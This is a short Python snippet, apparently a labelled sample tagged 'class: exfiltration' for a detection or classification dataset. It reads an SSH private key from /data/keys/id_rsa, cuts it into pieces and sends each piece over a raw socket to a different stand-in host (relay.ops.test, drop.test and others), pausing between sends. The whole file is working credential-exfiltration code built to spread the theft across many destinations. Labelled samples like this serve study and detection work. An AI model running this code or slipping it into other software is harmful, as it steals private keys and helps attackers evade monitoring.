# class: exfiltration; possible: low medium; needs: data
import socket, time
peers = ["relay.ops.test", "irc.ops.test", "queue.ops.test", "events.ops.test", "proxy.ops.test", "pool.coin.test", "drop.test"]
secret = open("/data/keys/id_rsa", "rb").read()
piece = len(secret) // len(peers) + 1
for i, p in enumerate(peers):
    with socket.create_connection((p, 9000), 10) as s:
        s.sendall(b"%02d" % i + secret[i * piece:(i + 1) * piece])
    time.sleep(1)
